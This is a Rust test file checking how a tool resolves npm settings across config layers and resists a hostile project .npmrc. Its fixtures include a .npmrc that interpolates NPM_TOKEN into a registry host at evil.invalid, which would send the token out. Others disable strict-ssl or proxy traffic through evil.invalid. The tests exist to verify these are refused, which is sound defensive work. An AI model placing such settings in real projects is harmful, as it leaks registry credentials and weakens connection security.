//! Effective settings: npm's layers, and what a hostile project may not decide.
#![allow(clippy::unwrap_used, clippy::panic, reason = "a panic is a failed test")]

use std::collections::BTreeMap;
use std::path::PathBuf;
use std::time::Duration;

use url::Url;
use vetch_registries::{Environment, Layer, NpmConfig};
use vetch_testkit::{Project, ProjectBuilder};

fn load_with(project: &Project, variables: &[(&str, &str)], trust_project: bool) -> NpmConfig {
    let variables: BTreeMap<String, String> =
        variables.iter().map(|(key, value)| ((*key).to_owned(), (*value).to_owned())).collect();
    NpmConfig::load(&Environment {
        variables,
        home: Some(project.home()),
        project: Some(project.root()),
        trust_project,
    })
}

fn load(builder: ProjectBuilder) -> NpmConfig {
    load_with(&builder.build(), &[], false)
}

fn demo() -> ProjectBuilder {
    Project::builder("demo")
}

fn url(text: &str) -> Url {
    Url::parse(text).unwrap()
}

fn told(config: &NpmConfig, words: &str) -> bool {
    config.notices.iter().any(|notice| notice.message.contains(words) && !notice.hint.is_empty())
}

#[test]
fn without_settings_npms_defaults_hold() {
    let project = demo().build();
    let config = load_with(&project, &[], false);
    assert_eq!(config.registry_for("a").url.as_str(), "https://registry.npmjs.org/");
    assert_eq!(config.registry_for("@s/a").named_by, Layer::Default);
    assert_eq!(config.cache, Some(project.home().join(".npm")));
    assert!(config.user_names(&url("https://registry.npmjs.org/a")));
    assert!(!config.offline && config.notices.is_empty());
}

#[test]
fn higher_layers_win() {
    let project = demo()
        .home_file(
            "prefix/etc/npmrc",
            "registry=https://global.invalid\nfetch-retries=7\n@g:registry=https://g.invalid\n",
        )
        .user_npmrc(
            "registry=https://user.invalid/npm\n@u:registry=https://u.invalid\noffline=true\ncache=~/elsewhere\n",
        )
        .npmrc("registry=https://project.invalid\nfetch-retries=99999\n")
        .build();
    let prefix = project.home().join("prefix").display().to_string();
    let base = [("PREFIX", prefix.as_str())];
    let config = load_with(&project, &base, false);
    assert_eq!(config.registry_for("a").url.as_str(), "https://project.invalid/");
    assert_eq!(config.registry_for("@u/a").url.as_str(), "https://u.invalid/");
    assert_eq!(config.registry_for("@g/a").named_by, Layer::Global);
    assert_eq!(config.fetch.retries, 10, "bounded");
    assert_eq!(config.cache, Some(project.home().join("elsewhere")));
    assert!(config.offline);
    let overriding = [base[0], ("NPM_CONFIG_REGISTRY", "https://env.invalid/"), ("npm_config_fetch_timeout", "1500")];
    let config = load_with(&project, &overriding, false);
    assert_eq!(config.registry_for("a").url.as_str(), "https://env.invalid/");
    assert_eq!(config.fetch.timeout, Duration::from_millis(1500));
    assert!(config.user_names(&url("https://user.invalid/x")) && config.user_names(&url("https://env.invalid/x")));
    assert!(!config.user_names(&url("https://project.invalid/x")));
}

#[test]
fn the_user_config_may_lie_elsewhere() {
    let project = demo()
        .user_npmrc("registry=https://user.invalid\n")
        .home_file("other", "registry=https://other.invalid\n")
        .build();
    let path = project.home().join("other").display().to_string();
    let config = load_with(&project, &[("NPM_CONFIG_USERCONFIG", &path)], false);
    assert_eq!(config.registry_for("a").url.as_str(), "https://other.invalid/");
}

#[test]
fn the_projects_settings_do_not_read_the_environment() {
    let project = demo()
        .user_npmrc("//user.invalid/:_authToken=${MINE}\n")
        .npmrc("registry=https://${NPM_TOKEN}.evil.invalid/\n//evil.invalid/:_authToken=${NPM_TOKEN}\n//${NPM_TOKEN}.evil.invalid/:_auth=x\n")
        .build();
    let variables = [("NPM_TOKEN", "npm_secret"), ("MINE", "mine")];
    let config = load_with(&project, &variables, false);
    assert_eq!(config.registry_for("a").url.as_str(), "https://registry.npmjs.org/");
    assert!(!format!("{config:?}").contains("npm_secret"), "{config:?}");
    assert_eq!(config.notices.iter().filter(|notice| notice.message.contains("reads the environment")).count(), 3);
    let first = config.notices[0].location.clone().unwrap();
    assert_eq!((first.file.as_str(), first.line), (".npmrc", 1));
    let trusted = load_with(&project, &variables, true);
    assert_eq!(trusted.registry_for("a").url.as_str(), "https://npm_secret.evil.invalid/");
}

#[test]
fn the_projects_settings_do_not_weaken_the_connection() {
    let text = "strict-ssl=false\ncafile=./ca.pem\nca[]=x\nproxy=http://evil.invalid\nhttps-proxy=http://evil.invalid\n\
                noproxy=*\ncache=./cache\noffline=true\n";
    let project = demo().npmrc(text).build();
    let config = load_with(&project, &[], false);
    for key in ["strict-ssl", "cafile", "ca", "proxy", "https-proxy", "noproxy", "cache", "offline"] {
        assert!(told(&config, &format!("`{key}` in the project's .npmrc was refused")), "{key}");
    }
    assert_eq!(config.cache, Some(project.home().join(".npm")));
    assert!(!config.offline);
    assert!(!told(&config, "certificates of registries are not checked"));
    assert!(told(&load_with(&project, &[], true), "certificates of registries are not checked"));
}

#[test]
fn a_project_that_brings_its_registry_is_told_of() {
    let config = load(demo().npmrc(
        "registry=https://evil.invalid\n@corp:registry=http://10.0.0.1\n@pub:registry=https://registry.npmjs.org\n",
    ));
    assert!(told(&config, "takes all packages from evil.invalid"));
    assert!(told(&config, "takes packages of @corp from 10.0.0.1"));
    assert!(!told(&config, "@pub"));
    assert!(!config.user_names(&url("http://10.0.0.1/")));
    let known =
        load(demo().user_npmrc("//corp.invalid/:_authToken=t\n").npmrc("@corp:registry=https://corp.invalid\n"));
    assert!(known.notices.is_empty(), "{:?}", known.notices);
    let overridden = load_with(
        &demo().npmrc("registry=https://evil.invalid\n").build(),
        &[("npm_config_registry", "https://r.invalid")],
        false,
    );
    assert!(overridden.notices.is_empty(), "{:?}", overridden.notices);
}

#[test]
fn what_cannot_be_used_is_told_of() {
    let config = load(demo().user_npmrc(
        "_authToken=loose\n//h.invalid/:certfile=/x\nregistry=ftp://x.invalid\n@s:registry=https://${MISSING}/\n",
    ));
    for words in ["bound to no host", "client certificates", "no http or https URL", "a variable that is not set"] {
        assert!(told(&config, words), "{words}: {:?}", config.notices);
    }
    assert!(!format!("{config:?}").contains("loose"));
}

#[test]
fn hostile_files_are_survived() {
    let huge = "a=b\n".repeat(400_000);
    assert!(told(&load(demo().npmrc(&huge)), "larger than"));
    let config = load(demo().file(".npmrc", b"\xff\xfe registry=\xff\n@s:registry=https://s.invalid\n"));
    assert_eq!(config.registry_for("@s/a").url.as_str(), "https://s.invalid/");
    let project = demo().build();
    std::fs::create_dir(project.root().join(".npmrc")).unwrap();
    assert!(told(&load_with(&project, &[], false), "no regular file"));
}

#[test]
fn secrets_in_registry_urls_are_not_kept() {
    let config = load(demo().user_npmrc(
        "registry=https://user:hunter2@r.invalid/npm?key=hunter2\nhttps-proxy=http://u:hunter2@p.invalid\n",
    ));
    assert_eq!(config.registry_for("a").url.as_str(), "https://r.invalid/npm/");
    assert!(!format!("{config:?}").contains("hunter2"));
}

#[cfg(unix)]
#[test]
fn a_home_folder_scanned_as_a_project_is_read_once() {
    let project = demo().user_npmrc("registry=https://user.invalid\nstrict-ssl=false\n").build();
    std::os::unix::fs::symlink(project.home().join(".npmrc"), project.root().join(".npmrc")).unwrap();
    let config = load_with(&project, &[], false);
    assert!(config.user_names(&url("https://user.invalid/")));
    assert!(!told(&config, "refused"));
}

#[test]
fn a_node_in_the_project_does_not_choose_the_global_settings() {
    let project = demo()
        .file("tools/bin/node", "")
        .file("tools/etc/npmrc", "strict-ssl=false\nregistry=https://evil.invalid\n")
        .home_file("node/bin/node", "")
        .home_file("node/etc/npmrc", "registry=https://global.invalid\n")
        .build();
    let folders: Vec<PathBuf> = vec!["bin".into(), project.root().join("tools/bin"), project.home().join("node/bin")];
    let path = std::env::join_paths(folders).unwrap().into_string().unwrap();
    let config = load_with(&project, &[("PATH", &path)], false);
    assert_eq!(config.registry_for("a").url.as_str(), "https://global.invalid/");
}
